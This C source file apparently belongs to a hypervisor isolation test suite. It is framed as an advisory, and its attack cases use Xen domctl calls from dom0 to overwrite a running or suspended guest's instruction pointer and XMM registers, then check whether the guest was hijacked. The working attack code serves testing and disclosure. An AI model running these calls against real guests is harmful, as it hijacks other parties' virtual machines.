/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's registers, written by the toolstack's calls
 *
 * Claim:  dom0 makes a running guest execute what dom0 wants.
 * Method: XEN_DOMCTL_setvcpucontext, _sethvmcontext and _setvcpuextstate of
 *         the running guest, with another instruction pointer, or other vector
 *         registers, in state that is a twin's, or made up; the first also
 *         while it is suspended, before it is resumed.
 * Stock:  accepted at any time; the guest jumps.
 */
#include <errno.h>
#include <string.h>

#include "../attack.h"

#include <xen/hvm/save.h>

#define SIZE (64u << 10)

static enum verdict setvcpucontext(struct victim *v)
{
    vcpu_guest_context_any_t c;

    victim_pause(v);
    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        memset(&c, 0, sizeof(c));
    c.x64.user_regs.rip = VICTIM_HIJACK;
    xc_vcpu_setcontext(xch, v->id, 0, &c);
    victim_unpause(v);
    return victim_complains(v, "HIJACKED");
}
ATTACK(setvcpucontext, .needs = SHARED);

static enum verdict setvcpucontext_suspended(struct victim *v)
{
    struct xen_domctl resume = {0};
    vcpu_guest_context_any_t c;

    if ( !victim_suspended(v, 20) )
        return verdict(ERROR, "the guest does not suspend");
    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        memset(&c, 0, sizeof(c));
    c.x64.user_regs.rip = VICTIM_HIJACK;
    xc_vcpu_setcontext(xch, v->id, 0, &c);
    if ( domctl(v->id, XEN_DOMCTL_resumedomain, &resume) )
        return verdict(FAILURE, "it cannot be resumed");
    return victim_complains(v, "HIJACKED");
}
ATTACK(setvcpucontext_suspended, .needs = FRESH, .extra = "suspend");

static struct hvm_hw_cpu *cpu_record(uint8_t *state, unsigned int size)
{
    unsigned int at = 0;

    while ( at + sizeof(struct hvm_save_descriptor) <= size )
    {
        struct hvm_save_descriptor *d = (void *)(state + at);

        if ( d->typecode == HVM_SAVE_CODE(CPU) )
            return (void *)(d + 1);
        at += sizeof(*d) + d->length;
    }
    return NULL;
}

/*
 * All state of a guest that has not run: no host keeps that from its maker.
 * Its size, or -1.
 */
static int twins_state(uint8_t state[SIZE])
{
    struct victim twin;
    int size;

    if ( victim_create(&twin, NULL) )
        return -1;
    size = xc_domain_hvm_getcontext(xch, twin.id, state, SIZE);
    victim_destroy(&twin);
    return size;
}

/* Whether the call was made, and if it failed, then because it may not be. */
static bool mounted(long rc)
{
    return !rc || rc == -EPERM;
}

static enum verdict sethvmcontext(struct victim *v)
{
    static uint8_t state[SIZE];
    int size = twins_state(state);
    struct hvm_hw_cpu *cpu = size > 0 ? cpu_record(state, size) : NULL;
    enum verdict result;
    long rc;

    if ( !cpu )
        return verdict(ERROR, "no state of a twin");
    cpu->rip = VICTIM_HIJACK;
    victim_pause(v);
    rc = xc_domain_hvm_setcontext(xch, v->id, state, size) ? -errno : 0;
    victim_unpause(v);
    if ( !mounted(rc) )
        return verdict(ERROR, "not even refused: %ld", rc);
    result = victim_complains(v, "HIJACKED");
    return result == FAILURE ? verdict(FAILURE, "not hijacked: %ld", rc)
                             : result;
}
ATTACK(sethvmcontext, .needs = SHARED);

/*
 * XCR0 and XCR0_accum, as if the guest used x87 and SSE and nothing else (it
 * need not have said so); then the XSAVE area, as a processor has it at reset,
 * but for the XMM registers.
 */
#define EXT_HEADER 16
#define EXT_LEGACY 576
#define EXT_FCW 0
#define EXT_MXCSR 24
#define EXT_XMM 160
#define EXT_BV 512

static void other_xmm(uint8_t *state)
{
    uint8_t *area = state + EXT_HEADER;

    state[0] = state[8] = area[EXT_BV] = 3;
    memcpy(area + EXT_FCW, (const uint16_t[]){0x37f}, 2);
    memcpy(area + EXT_MXCSR, (const uint32_t[]){0x1f80}, 4);
    memset(area + EXT_XMM, 0xa5, 128);
}

static long set_xmm(struct victim *v)
{
    uint8_t *state = xen_buffer(EXT_HEADER + EXT_LEGACY);
    struct xen_domctl op = {.u.vcpuextstate.size = EXT_HEADER + EXT_LEGACY};

    other_xmm(state);
    set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, (void *)state);
    return domctl(v->id, XEN_DOMCTL_setvcpuextstate, &op);
}

/* While it rests, which is what it does nearly always. */
static enum verdict setvcpuextstate(struct victim *v)
{
    enum verdict result;
    unsigned int tries;
    long rc = 0;

    for ( tries = 0; tries < 20 && !rc; tries++ )
    {
        victim_pause(v);
        rc = set_xmm(v);
        victim_unpause(v);
        if ( !rc && victim_says(v, "XMM", 2) )
            return verdict(SUCCESS, "the guest's XMM registers have changed");
    }
    if ( !mounted(rc) )
        return verdict(ERROR, "not even refused: %ld", rc);
    result = victim_complains(v, "XMM");
    return result == FAILURE ? verdict(FAILURE, "as they were: %ld", rc)
                             : result;
}
ATTACK(setvcpuextstate, .needs = SHARED);
